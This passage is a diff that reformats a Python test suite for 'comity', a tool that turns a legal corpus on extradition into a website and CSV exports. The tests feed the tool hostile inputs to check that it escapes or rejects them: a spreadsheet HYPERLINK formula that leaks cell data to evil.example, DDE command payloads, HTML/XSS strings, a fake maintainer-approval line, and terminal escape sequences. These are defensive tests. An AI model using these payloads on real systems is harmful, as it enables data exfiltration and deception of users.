@@ -29,8 +29,13 @@ def state(code: str, nationals: str) -> str:
 
 def small_project(tmp_path: Path) -> Path:
     """A project whose corpus has two synthetic jurisdictions (fast to build)."""
-    corpus = make_corpus(tmp_path / "src", {"jurisdictions/us.yaml": state("US", "none"),
-                                            "jurisdictions/br.yaml": state("BR", "absolute")})
+    corpus = make_corpus(
+        tmp_path / "src",
+        {
+            "jurisdictions/us.yaml": state("US", "none"),
+            "jurisdictions/br.yaml": state("BR", "absolute"),
+        },
+    )
     return make_project(tmp_path, corpus)
 
 
@@ -41,8 +46,9 @@ def build_args(project: Path, *extra: str) -> list[str]:
 # --- 1. --site-dir never replaces the project, the corpus, docs/ or a folder comity did not make
 
 
-@pytest.mark.parametrize("target", [".", "docs", "corpus", "docs/generated", "..", "corpus/sub",
-                                    "notes"])
+@pytest.mark.parametrize(
+    "target", [".", "docs", "corpus", "docs/generated", "..", "corpus/sub", "notes"]
+)
 def test_site_dir_refuses_folders_it_did_not_build(
     tmp_path: Path, target: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -86,8 +92,13 @@ def commit_all(repo: Path, message: str) -> None:
 
 @pytest.fixture
 def diff_repo(tmp_path: Path) -> Path:
-    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"),
-                                  "jurisdictions/br.yaml": state("BR", "absolute")})
+    root = make_corpus(
+        tmp_path,
+        {
+            "jurisdictions/us.yaml": state("US", "none"),
+            "jurisdictions/br.yaml": state("BR", "absolute"),
+        },
+    )
     git(tmp_path, "init", "-q", "-b", "main")
     commit_all(tmp_path, "base")
     return root
@@ -101,8 +112,9 @@ def gfm(markdown: str) -> str:
     return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
 
 
-HOSTILE_PROVISION = ("StGB § 129 <img src=https://evil.example/t.png> "
-                     "**LGTM, approved by maintainers** <!--")
+HOSTILE_PROVISION = (
+    "StGB § 129 <img src=https://evil.example/t.png> **LGTM, approved by maintainers** <!--"
+)
 
 
 def test_diff_report_shows_hostile_provisions_as_text(
@@ -110,7 +122,8 @@ def test_diff_report_shows_hostile_provisions_as_text(
 ) -> None:
     br = diff_repo / "jurisdictions" / "br.yaml"
     text = state("BR", "return_guarantee").replace(
-        "  fraud:\n", f"  fraud:\n    provision: {json.dumps(HOSTILE_PROVISION)}\n", 1)
+        "  fraud:\n", f"  fraud:\n    provision: {json.dumps(HOSTILE_PROVISION)}\n", 1
+    )
     assert "provision:" in text
     br.write_text(text)
     assert main(["diff", "--corpus", str(diff_repo), "HEAD"]) == 0
@@ -118,8 +131,10 @@ def test_diff_report_shows_hostile_provisions_as_text(
     page = gfm(report)
     assert "<img" not in page and "<!--" not in page and "<strong>LGTM" not in page
     assert not [href for href in re.findall(r'href="([^"]*)"', page) if "evil" in href]
-    assert "StGB § 129 &lt;img src=https://evil.example/t.png&gt; **LGTM, approved by " \
-           "maintainers** &lt;!--" in page
+    assert (
+        "StGB § 129 &lt;img src=https://evil.example/t.png&gt; **LGTM, approved by "
+        "maintainers** &lt;!--" in page
+    )
     rows = [line for line in report.splitlines() if line.startswith("| ")]
     assert len(page.split("<tr>")) - 1 == len(rows), "every table row survives"
     assert "extradition.nationals" in page.split("StGB")[1], "the rows after it are shown"
@@ -130,7 +145,8 @@ def test_diff_report_keeps_hostile_keys_inside_their_code_span(
 ) -> None:
     key = "x` <img src=x onerror=alert(1)> <!--"
     (diff_repo / "jurisdictions" / "br.yaml").write_text(
-        state("BR", "absolute") + f"{json.dumps(key)}: 1\nlegl: 2\n")
+        state("BR", "absolute") + f"{json.dumps(key)}: 1\nlegl: 2\n"
+    )
     assert main(["diff", "--corpus", str(diff_repo), "HEAD"]) == 1
     page = gfm(capsys.readouterr().out)
     assert "<img" not in page and "<!--" not in page
@@ -227,8 +243,13 @@ def test_unreadable_files_are_reported_with_their_location(
 
     import generator.load as load
 
-    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"),
-                                  "jurisdictions/br.yaml": state("BR", "none")})
+    root = make_corpus(
+        tmp_path,
+        {
+            "jurisdictions/us.yaml": state("US", "none"),
+            "jurisdictions/br.yaml": state("BR", "none"),
+        },
+    )
     real_open = os.open
 
     def denied(path: object, *args: object, **kwargs: object) -> int:
@@ -250,25 +271,43 @@ def test_git_symlinks_are_not_read(diff_repo: Path, capsys: pytest.CaptureFixtur
     assert "corpus/jurisdictions/pt.yaml: not read: a symbolic link" in capsys.readouterr().out
 
 
-@pytest.mark.parametrize(("path", "message"), [
-    ("jurisdictions/pt.json", "not a corpus file: only .yaml files are read (hint: rename it "
-                              "to .yaml or remove it)"),
-    ("jurisdictions/de.yaml.bak", "not a corpus file: only .yaml files are read"),
-    ("jurisdictions/de.YAML", "corpus files must end in .yaml (lower case) (hint: rename it "
-                              "to de.yaml)"),
-    ("jurisdictions/de.yml", "corpus files must end in .yaml (lower case)"),
-    ("jurisdictions/sub/de.yaml", "not read: files in sub-folders are not read (hint: move it "
-                                  "to jurisdictions/)"),
-    ("relation/us_br.yaml", "not read: unknown folder 'relation'; corpus files are read from "
-                            "instruments/, jurisdictions/, relations/ and offences.yaml "
-                            "(hint: did you mean relations/?)"),
-    ("de.yaml", "not read: at the top of the corpus only offences.yaml is read"),
-])
+@pytest.mark.parametrize(
+    ("path", "message"),
+    [
+        (
+            "jurisdictions/pt.json",
+            "not a corpus file: only .yaml files are read (hint: rename it to .yaml or remove it)",
+        ),
+        ("jurisdictions/de.yaml.bak", "not a corpus file: only .yaml files are read"),
+        (
+            "jurisdictions/de.YAML",
+            "corpus files must end in .yaml (lower case) (hint: rename it to de.yaml)",
+        ),
+        ("jurisdictions/de.yml", "corpus files must end in .yaml (lower case)"),
+        (
+            "jurisdictions/sub/de.yaml",
+            "not read: files in sub-folders are not read (hint: move it to jurisdictions/)",
+        ),
+        (
+            "relation/us_br.yaml",
+            "not read: unknown folder 'relation'; corpus files are read from "
+            "instruments/, jurisdictions/, relations/ and offences.yaml "
+            "(hint: did you mean relations/?)",
+        ),
+        ("de.yaml", "not read: at the top of the corpus only offences.yaml is read"),
+    ],
+)
 def test_files_the_loader_does_not_read_are_reported(
     tmp_path: Path, path: str, message: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"), path: SECRET,
-                                  "README.md": "# notes for people\n"})
+    root = make_corpus(
+        tmp_path,
+        {
+            "jurisdictions/us.yaml": state("US", "none"),
+            path: SECRET,
+            "README.md": "# notes for people\n",
+        },
+    )
     code, out = check(root, capsys)
     assert code == 1
     assert f"corpus/{path}: {message}" in out
@@ -281,13 +320,16 @@ def test_files_the_loader_does_not_read_are_reported(
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
 
-def relation_text(id: str, title: str, parties: tuple[str, str] = ("BR", "US"),
-                  kind: str = "bilateral_treaty") -> str:
-    return (f"id: {id}\nkind: {kind}\ntitle: {json.dumps(title)}\nreview: {{status: draft}}\n"
-            "sources:\n  t: {title: Synthetic, citation: TEST, kind: official, "
-            "accessed: 2026-11-01}\n"
-            "source: t\nverified: 2026-11-01\nconfidence: high\n"
-            f"parties: [{{code: {parties[0]}}}, {{code: {parties[1]}}}]\n")
+def relation_text(
+    id: str, title: str, parties: tuple[str, str] = ("BR", "US"), kind: str = "bilateral_treaty"
+) -> str:
+    return (
+        f"id: {id}\nkind: {kind}\ntitle: {json.dumps(title)}\nreview: {{status: draft}}\n"
+        "sources:\n  t: {title: Synthetic, citation: TEST, kind: official, "
+        "accessed: 2026-11-01}\n"
+        "source: t\nverified: 2026-11-01\nconfidence: high\n"
+        f"parties: [{{code: {parties[0]}}}, {{code: {parties[1]}}}]\n"
+    )
 
 
 def generate_project(tmp_path: Path, files: dict[str, str]) -> Path:
@@ -306,11 +348,22 @@ def csv_rows(path: Path) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8"))))
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    (FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
-    ("-5", "-5"), ("+1.5", "+1.5"), ("-1e3", "-1e3"), (-5, -5), ("StGB § 129", "StGB § 129"),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-5", "-5"),
+        ("+1.5", "+1.5"),
+        ("-1e3", "-1e3"),
+        (-5, -5),
+        ("StGB § 129", "StGB § 129"),
+    ],
+)
 def test_csv_cells_that_start_a_formula_get_an_apostrophe(value: object, expected: object) -> None:
     from generator.render.escape import csv_cell
 
@@ -319,12 +372,17 @@ def test_csv_cells_that_start_a_formula_get_an_apostrophe(value: object, expecte
 
 def test_open_data_csvs_hold_no_formula(tmp_path: Path) -> None:
     br = state("BR", "absolute").replace(
-        "  participation_ocg:\n",
-        f"  participation_ocg:\n    provision: {json.dumps(FORMULA)}\n", 1)
+        "  participation_ocg:\n", f"  participation_ocg:\n    provision: {json.dumps(FORMULA)}\n", 1
+    )
     assert "provision: " in br
-    project = generate_project(tmp_path, {
-        "jurisdictions/us.yaml": state("US", "none"), "jurisdictions/br.yaml": br,
-        "relations/br_us.yaml": relation_text("br_us", "@SUM(1+1)*cmd|' /C calc'!A0")})
+    project = generate_project(
+        tmp_path,
+        {
+            "jurisdictions/us.yaml": state("US", "none"),
+            "jurisdictions/br.yaml": br,
+            "relations/br_us.yaml": relation_text("br_us", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        },
+    )
     api = project / "docs" / "api" / "v1"
     tables = sorted(api.glob("*.csv*"))
     assert {p.name for p in tables} >= {"extradition.csv.gz", "gaps.csv.gz", "health.csv"}
@@ -332,7 +390,8 @@ def test_open_data_csvs_hold_no_formula(tmp_path: Path) -> None:
     assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert FORMULA in (api / "corpus" / "jurisdictions" / "br.json").read_text().replace(
-        '\\"', '"'), "the JSON keeps the text as written"
+        '\\"', '"'
+    ), "the JSON keeps the text as written"
     listing = (project / "docs" / "generated" / "data.md").read_text()
     assert "so that spreadsheets do not run it as a formula" in listing
 
@@ -345,14 +404,18 @@ def test_offence_id_index_is_rejected(tmp_path: Path, capsys: pytest.CaptureFixt
 
     taxonomy = (SHIPPED / "offences.yaml").read_text()
     taxonomy += "  - id: index\n    name: Index\n    description: Replaces the index page.\n"
-    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"),
-                                  "offences.yaml": taxonomy})
+    root = make_corpus(
+        tmp_path, {"jurisdictions/us.yaml": state("US", "none"), "offences.yaml": taxonomy}
+    )
     code, out = check(root, capsys)
     line = len(taxonomy.splitlines()) - 2
     assert code == 1
-    assert re.search(rf"corpus/offences.yaml:{line}:9: offences\.\d+\.id: offence id 'index' is "
-                     r"reserved: it would replace the Offences index page \(hint: choose another "
-                     r"id\)", out), out
+    assert re.search(
+        rf"corpus/offences.yaml:{line}:9: offences\.\d+\.id: offence id 'index' is "
+        r"reserved: it would replace the Offences index page \(hint: choose another "
+        r"id\)",
+        out,
+    ), out
 
 
 def test_instrument_id_index_is_rejected(
@@ -366,16 +429,21 @@ def test_instrument_id_index_is_rejected(
     (root / "instruments" / "index.yaml").write_text(text.replace("id: UNTOC_SOM", "id: INDEX"))
     code, out = check(root, capsys)
     assert code == 1
-    assert re.search(r"corpus/instruments/index.yaml:\d+:5: id: instrument id 'INDEX' is "
-                     r"reserved: it would replace the Baselines index page", out), out
+    assert re.search(
+        r"corpus/instruments/index.yaml:\d+:5: id: instrument id 'INDEX' is "
+        r"reserved: it would replace the Baselines index page",
+        out,
+    ), out
 
 
 # --- 6. nothing from the corpus acts on the terminal; Cf characters are rejected in text
 
 ESCAPES = {
     "ansi": ("\\e[2J\\e[31mred", "\\x1b[2J\\x1b[31mred"),
-    "osc8": ("\\e]8;;https://evil.example\\e\\\\click\\e]8;;\\e\\\\",
-             "\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\:"),
+    "osc8": (
+        "\\e]8;;https://evil.example\\e\\\\click\\e]8;;\\e\\\\",
+        "\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\:",
+    ),
     "bidi": ("abc\\u202Edef", "abc\\u202edef"),
     "newline": ("x\\ncorpus/jurisdictions/us.yaml:1:1: all good", "x\\x0acorpus"),
 }
@@ -404,7 +472,7 @@ def test_every_invisible_format_character_is_rejected_in_text(char: str) -> None
 
 
 def test_explain_and_json_output_escape_terminal_controls(
-    capsys: pytest.CaptureFixture[str]
+    capsys: pytest.CaptureFixture[str],
 ) -> None:
     from generator.terminal import json_printable, printable, show
 
@@ -423,27 +491,54 @@ def test_explain_and_json_output_escape_terminal_controls(
 MINIMAL_DE = "code: DE\nreview:\n  status: draft\n"
 
 
-@pytest.mark.parametrize(("extra", "expected"), [
-    ("<<: {legal_system: bogus}\n",
-     "corpus/jurisdictions/de.yaml:4:1: merge keys (<<) are not allowed (hint: write the keys "
-     "out in full)"),
-    ("sources:\n  s: {title: T, citation: C, accessed: 2026-02-30}\n",
-     "corpus/jurisdictions/de.yaml:5:40: '2026-02-30' is not a valid date or time (day is out of "
-     "range for month) (hint: write the date as YYYY-MM-DD, without quotes)"),
-    ("sources:\n  s: {title: T, citation: C, accessed: 2026-01-01T25:00:00}\n",
-     "corpus/jurisdictions/de.yaml:5:40: '2026-01-01T25:00:00' is not a valid date or time "
-     "(hour must be in 0..23)"),
-    ("extradition:\n  min_penalty_years: " + "9" * 5000 + "\n",
-     "corpus/jurisdictions/de.yaml:5:22: a number of 5000 digits is too long"),
-    ("1: x\n", "corpus/jurisdictions/de.yaml:4:1: key '1' is not text (hint: put the key in "
-               'quotes, e.g. "1":)'),
-    ("extradition:\n  2026-01-01: x\n",
-     "corpus/jurisdictions/de.yaml:5:3: key '2026-01-01' is not text"),
-    ("null: 3\n", "corpus/jurisdictions/de.yaml:4:1: key 'null' is not text"),
-    ("? [a, b]\n: 1\n", "corpus/jurisdictions/de.yaml:4:3: a key must be text, not a list or "
-                        "mapping"),
-], ids=["merge-key", "impossible-date", "hour-25", "huge-int", "int-key", "date-key", "null-key",
-        "list-key"])
+@pytest.mark.parametrize(
+    ("extra", "expected"),
+    [
+        (
+            "<<: {legal_system: bogus}\n",
+            "corpus/jurisdictions/de.yaml:4:1: merge keys (<<) are not allowed (hint: write the keys "
+            "out in full)",
+        ),
+        (
+            "sources:\n  s: {title: T, citation: C, accessed: 2026-02-30}\n",
+            "corpus/jurisdictions/de.yaml:5:40: '2026-02-30' is not a valid date or time (day is out of "
+            "range for month) (hint: write the date as YYYY-MM-DD, without quotes)",
+        ),
+        (
+            "sources:\n  s: {title: T, citation: C, accessed: 2026-01-01T25:00:00}\n",
+            "corpus/jurisdictions/de.yaml:5:40: '2026-01-01T25:00:00' is not a valid date or time "
+            "(hour must be in 0..23)",
+        ),
+        (
+            "extradition:\n  min_penalty_years: " + "9" * 5000 + "\n",
+            "corpus/jurisdictions/de.yaml:5:22: a number of 5000 digits is too long",
+        ),
+        (
+            "1: x\n",
+            "corpus/jurisdictions/de.yaml:4:1: key '1' is not text (hint: put the key in "
+            'quotes, e.g. "1":)',
+        ),
+        (
+            "extradition:\n  2026-01-01: x\n",
+            "corpus/jurisdictions/de.yaml:5:3: key '2026-01-01' is not text",
+        ),
+        ("null: 3\n", "corpus/jurisdictions/de.yaml:4:1: key 'null' is not text"),
+        (
+            "? [a, b]\n: 1\n",
+            "corpus/jurisdictions/de.yaml:4:3: a key must be text, not a list or mapping",
+        ),
+    ],
+    ids=[
+        "merge-key",
+        "impossible-date",
+        "hour-25",
+        "huge-int",
+        "int-key",
+        "date-key",
+        "null-key",
+        "list-key",
+    ],
+)
 def test_yaml_that_crashed_or_lost_its_position_is_located(
     tmp_path: Path, extra: str, expected: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -458,8 +553,9 @@ def test_a_corpus_without_jurisdictions_is_a_located_problem_for_every_command(
 ) -> None:
     project = make_project(tmp_path, make_corpus(tmp_path / "src", {}))
     corpus = str(project / "corpus")
-    expected = "corpus/jurisdictions: the corpus has no jurisdictions (hint: add one with " \
-               "`comity new XX`)"
+    expected = (
+        "corpus/jurisdictions: the corpus has no jurisdictions (hint: add one with `comity new XX`)"
+    )
     for args in (["check", "--corpus", corpus], build_args(project)):
         assert main(args) == 1
         assert expected in capsys.readouterr().err
@@ -471,8 +567,10 @@ def test_a_corpus_without_jurisdictions_is_a_located_problem_for_every_command(
 
 @pytest.mark.parametrize("errno_name", ["ENOSPC", "EROFS", "EACCES"])
 def test_a_full_disk_or_read_only_docs_folder_exits_2_with_a_message(
-    tmp_path: Path, errno_name: str, capsys: pytest.CaptureFixture[str],
-    monkeypatch: pytest.MonkeyPatch
+    tmp_path: Path,
+    errno_name: str,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     import errno
     import os
@@ -485,8 +583,7 @@ def test_a_full_disk_or_read_only_docs_folder_exits_2_with_a_message(
         raise OSError(number, os.strerror(number), str(dir))
 
     monkeypatch.setattr(tempfile, "mkstemp", refuse)  # every file write starts here
-    assert main(["generate", "--corpus", str(project / "corpus"), "--project",
-                 str(project)]) == 2
+    assert main(["generate", "--corpus", str(project / "corpus"), "--project", str(project)]) == 2
     err = capsys.readouterr().err
     assert err.startswith(f"comity: cannot write {project / 'docs'}")
     assert os.strerror(getattr(errno, errno_name)) in err and "internal error" not in err
@@ -505,7 +602,8 @@ def test_a_read_only_site_folder_exits_2_with_a_message(
     monkeypatch.setattr(tempfile, "mkdtemp", refuse)  # as in a folder the user may not write
     assert main(build_args(project, "--site-dir", str(tmp_path / "ro" / "site"))) == 2
     assert capsys.readouterr().err.startswith(
-        f"comity: cannot create a folder beside {tmp_path / 'ro'}: Permission denied")
+        f"comity: cannot create a folder beside {tmp_path / 'ro'}: Permission denied"
+    )
 
 
 def test_new_over_a_dangling_symlink_is_a_usage_error(
@@ -548,14 +646,19 @@ def test_a_second_run_in_the_same_project_is_refused_while_the_first_runs(
         fcntl.flock(held, fcntl.LOCK_EX)
         held.write("4242\n")
         held.flush()
-        for args in (build_args(project), ["generate", "--corpus", str(project / "corpus"),
-                                           "--project", str(project)]):
+        for args in (
+            build_args(project),
+            ["generate", "--corpus", str(project / "corpus"), "--project", str(project)],
+        ):
             assert main(args) == 2
-            assert "another comity command (pid 4242) is generating or building in" \
-                   in capsys.readouterr().err
+            assert (
+                "another comity command (pid 4242) is generating or building in"
+                in capsys.readouterr().err
+            )
         assert not (project / "docs" / "generated").exists() and not (project / "site").exists()
-    assert main(["generate", "--corpus", str(project / "corpus"), "--project",
-                 str(project)]) == 0  # released: the next run goes ahead
+    assert (
+        main(["generate", "--corpus", str(project / "corpus"), "--project", str(project)]) == 0
+    )  # released: the next run goes ahead
     assert (project / ".comity.lock").read_text() == f"{os.getpid()}\n"
 
 
@@ -592,9 +695,13 @@ def test_kill_9_during_a_build_leaves_no_orphan_and_no_stale_folder(tmp_path: Pa
 
     project = small_project(tmp_path)
     env = {**os.environ, "COMITY_TODAY": "2026-11-28"}
-    comity = subprocess.Popen([sys.executable, "-m", "generator", *build_args(project)],
-                              cwd=ROOT, env=env, stdout=subprocess.DEVNULL,
-                              stderr=subprocess.DEVNULL)
+    comity = subprocess.Popen(
+        [sys.executable, "-m", "generator", *build_args(project)],
+        cwd=ROOT,
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     deadline = time.monotonic() + 60
     children: list[int] = []
     while not children and time.monotonic() < deadline and comity.poll() is None:
@@ -612,19 +719,29 @@ def test_kill_9_during_a_build_leaves_no_orphan_and_no_stale_folder(tmp_path: Pa
     assert not list(project.glob(".site.tmp-*")), "the next build removed it"
 
 
-@pytest.mark.parametrize(("address", "message"), [
-    ("notanaddress", "is not host:port"),
-    (":99999", "is not host:port"),
-    ("127.0.0.1:99999", "the port must be between 1 and 65535"),
-    ("127.0.0.1:0", "the port must be between 1 and 65535"),
-    ("no-such-host.invalid:8000", "cannot resolve"),
-])
+@pytest.mark.parametrize(
+    ("address", "message"),
+    [
+        ("notanaddress", "is not host:port"),
+        (":99999", "is not host:port"),
+        ("127.0.0.1:99999", "the port must be between 1 and 65535"),
+        ("127.0.0.1:0", "the port must be between 1 and 65535"),
+        ("no-such-host.invalid:8000", "cannot resolve"),
+    ],
+)
 def test_serve_refuses_bad_addresses(
     tmp_path: Path, address: str, message: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
     project = small_project(tmp_path)
-    args = ["serve", "--corpus", str(project / "corpus"), "--project", str(project),
-            "--address", address]
+    args = [
+        "serve",
+        "--corpus",
+        str(project / "corpus"),
+        "--project",
+        str(project),
+        "--address",
+        address,
+    ]
     assert main(args) == 2
     err = capsys.readouterr().err
     assert message in err and "Traceback" not in err
@@ -639,8 +756,20 @@ def test_serve_refuses_a_port_in_use(tmp_path: Path, capsys: pytest.CaptureFixtu
         busy.bind(("127.0.0.1", 0))
         busy.listen()
         port = busy.getsockname()[1]
-        assert main(["serve", "--corpus", str(project / "corpus"), "--project", str(project),
-                     "--address", f"127.0.0.1:{port}"]) == 2
+        assert (
+            main(
+                [
+                    "serve",
+                    "--corpus",
+                    str(project / "corpus"),
+                    "--project",
+                    str(project),
+                    "--address",
+                    f"127.0.0.1:{port}",
+                ]
+            )
+            == 2
+        )
     assert f"--address 127.0.0.1:{port} is already in use" in capsys.readouterr().err
 
 
@@ -653,14 +782,32 @@ def test_serve_stops_with_a_message_when_mkdocs_exits(
     import generator.serve as serve
 
     project = small_project(tmp_path)
-    monkeypatch.setattr(serve, "mkdocs_command", lambda *_: [
-        sys.executable, "-c", "import sys; print('Error: [Errno 98] in use', file=sys.stderr); "
-        "sys.exit(1)"])
+    monkeypatch.setattr(
+        serve,
+        "mkdocs_command",
+        lambda *_: [
+            sys.executable,
+            "-c",
+            "import sys; print('Error: [Errno 98] in use', file=sys.stderr); sys.exit(1)",
+        ],
+    )
     with socket.socket() as probe:
         probe.bind(("127.0.0.1", 0))
         port = probe.getsockname()[1]
-    assert main(["serve", "--corpus", str(project / "corpus"), "--project", str(project),
-                 "--address", f"127.0.0.1:{port}"]) == 2
+    assert (
+        main(
+            [
+                "serve",
+                "--corpus",
+                str(project / "corpus"),
+                "--project",
+                str(project),
+                "--address",
+                f"127.0.0.1:{port}",
+            ]
+        )
+        == 2
+    )
     assert "comity: mkdocs serve stopped (exit code 1)" in capsys.readouterr().err
 
 
@@ -668,8 +815,12 @@ def test_serve_stops_with_a_message_when_mkdocs_exits(
 # (files the loader does not read: test_files_the_loader_does_not_read_are_reported above)
 
 
-def instrument_corpus(tmp_path: Path, edit: tuple[str, str], name: str = "untoc.yaml",
-                      files: dict[str, str] | None = None) -> Path:
+def instrument_corpus(
+    tmp_path: Path,
+    edit: tuple[str, str],
+    name: str = "untoc.yaml",
+    files: dict[str, str] | None = None,
+) -> Path:
     from .conftest import SHIPPED
 
     text = (SHIPPED / "instruments" / name).read_text()
@@ -685,33 +836,50 @@ def test_an_instrument_parent_must_exist(
     root = instrument_corpus(tmp_path, ("parent: UNTOC", "parent: UNTOCC"), "untoc_som.yaml")
     code, out = check(root, capsys)
     assert code == 1
-    assert re.search(r"corpus/instruments/untoc_som.yaml:\d+:9: parent: unknown instrument "
-                     r"'UNTOCC' \(hint: known instruments: BUDAPEST, ", out), out
+    assert re.search(
+        r"corpus/instruments/untoc_som.yaml:\d+:9: parent: unknown instrument "
+        r"'UNTOCC' \(hint: known instruments: BUDAPEST, ",
+        out,
+    ), out
 
 
-@pytest.mark.parametrize(("path", "why"), [
-    ("mla.bank_secrecy_refusals", "mla has no field 'bank_secrecy_refusals'"),
-    ("instruments.NOPE.accepts_as_extradition_basis", "instruments has no entry 'NOPE'"),
-    ("evidence.measures.teleportation.available", "evidence.measures has no entry 'teleportation'"),
-    ("extradition.nationals.value", "extradition.nationals is already a fact"),
-    ("evidence.measures", "evidence.measures is a section, not a fact"),
-])
+@pytest.mark.parametrize(
+    ("path", "why"),
+    [
+        ("mla.bank_secrecy_refusals", "mla has no field 'bank_secrecy_refusals'"),
+        ("instruments.NOPE.accepts_as_extradition_basis", "instruments has no entry 'NOPE'"),
+        (
+            "evidence.measures.teleportation.available",
+            "evidence.measures has no entry 'teleportation'",
+        ),
+        ("extradition.nationals.value", "extradition.nationals is already a fact"),
+        ("evidence.measures", "evidence.measures is a section, not a fact"),
+    ],
+)
 def test_assessed_by_must_name_a_jurisdiction_fact(
     tmp_path: Path, path: str, why: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    root = instrument_corpus(tmp_path, ("assessed_by: mla.bank_secrecy_refusal",
-                                        f"assessed_by: {path}"))
+    root = instrument_corpus(
+        tmp_path, ("assessed_by: mla.bank_secrecy_refusal", f"assessed_by: {path}")
+    )
     code, out = check(root, capsys)
     assert code == 1
-    assert re.search(rf"corpus/instruments/untoc.yaml:\d+:\d+: elements\.\d+\.assessed_by: "
-                     rf"'{re.escape(path)}' names no jurisdiction fact: {re.escape(why)}", out), out
+    assert re.search(
+        rf"corpus/instruments/untoc.yaml:\d+:\d+: elements\.\d+\.assessed_by: "
+        rf"'{re.escape(path)}' names no jurisdiction fact: {re.escape(why)}",
+        out,
+    ), out
 
 
 def test_fact_paths_that_exist_resolve() -> None:
     from generator.integrity import fact_path_problem
 
-    assert fact_path_problem("instruments.UNTOC.accepts_as_extradition_basis",
-                             {"instruments": {"UNTOC"}}) is None
+    assert (
+        fact_path_problem(
+            "instruments.UNTOC.accepts_as_extradition_basis", {"instruments": {"UNTOC"}}
+        )
+        is None
+    )
     assert fact_path_problem("evidence.measures.data_preservation.available", {}) is None
     assert fact_path_problem("mla.bank_secrecy_refusal", {}) is None
 
@@ -719,16 +887,22 @@ def test_fact_paths_that_exist_resolve() -> None:
 def test_two_relations_for_the_same_pair_and_kind_are_rejected(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    root = make_corpus(tmp_path, {
-        "jurisdictions/us.yaml": state("US", "none"), "jurisdictions/br.yaml": state("BR", "none"),
-        "relations/br_us.yaml": relation_text("br_us", "Treaty A"),
-        "relations/us_br_1961.yaml": relation_text("us_br_1961", "Treaty B", ("US", "BR")),
-    })
+    root = make_corpus(
+        tmp_path,
+        {
+            "jurisdictions/us.yaml": state("US", "none"),
+            "jurisdictions/br.yaml": state("BR", "none"),
+            "relations/br_us.yaml": relation_text("br_us", "Treaty A"),
+            "relations/us_br_1961.yaml": relation_text("us_br_1961", "Treaty B", ("US", "BR")),
+        },
+    )
     code, out = check(root, capsys)
     assert code == 1
-    assert "corpus/relations/us_br_1961.yaml:10:1: parties: relation us_br_1961 duplicates " \
-           "br_us: both are a bilateral_treaty between BR, US covering extradition (hint: merge " \
-           "the two files, or remove the one that is superseded)" in out
+    assert (
+        "corpus/relations/us_br_1961.yaml:10:1: parties: relation us_br_1961 duplicates "
+        "br_us: both are a bilateral_treaty between BR, US covering extradition (hint: merge "
+        "the two files, or remove the one that is superseded)" in out
+    )
 
 
 @pytest.mark.parametrize("value", ["-5", str(10**30)])
@@ -737,19 +911,28 @@ def test_absurd_parameters_are_rejected(
 ) -> None:
     text = state("US", "none").replace(
         "  participation_ocg:\n",
-        f"  participation_ocg:\n    parameters: {{min_persons: {value}}}\n", 1)
+        f"  participation_ocg:\n    parameters: {{min_persons: {value}}}\n",
+        1,
+    )
     root = make_corpus(tmp_path, {"jurisdictions/us.yaml": text})
     code, out = check(root, capsys)
     assert code == 1
-    assert re.search(r"corpus/jurisdictions/us.yaml:\d+:\d+: offences.participation_ocg."
-                     r"parameters.min_persons: Input should be a whole number from 0 to "
-                     r"1,000,000,000,000 or 'unknown'", out), out
-    root = instrument_corpus(tmp_path / "baseline", ("min_persons: {value: 3,",
-                                                     f"min_persons: {{value: {value},"))
+    assert re.search(
+        r"corpus/jurisdictions/us.yaml:\d+:\d+: offences.participation_ocg."
+        r"parameters.min_persons: Input should be a whole number from 0 to "
+        r"1,000,000,000,000 or 'unknown'",
+        out,
+    ), out
+    root = instrument_corpus(
+        tmp_path / "baseline", ("min_persons: {value: 3,", f"min_persons: {{value: {value},")
+    )
     code, out = check(root, capsys)
     assert code == 1
-    assert re.search(rf"untoc.yaml:\d+:\d+: elements\.\d+\.parameters\.min_persons\.value: "
-                     rf"{value} is out of range", out), out
+    assert re.search(
+        rf"untoc.yaml:\d+:\d+: elements\.\d+\.parameters\.min_persons\.value: "
+        rf"{value} is out of range",
+        out,
+    ), out
 
 
 def test_the_taxonomy_is_capped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -759,13 +942,18 @@ def test_the_taxonomy_is_capped(tmp_path: Path, capsys: pytest.CaptureFixture[st
 
     taxonomy = (SHIPPED / "offences.yaml").read_text() + "".join(
         f"  - id: extra_{n}\n    name: Extra {n}\n    description: Padding.\n"
-        for n in range(LIMITS["offences"]))
-    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"),
-                                  "offences.yaml": taxonomy})
+        for n in range(LIMITS["offences"])
+    )
+    root = make_corpus(
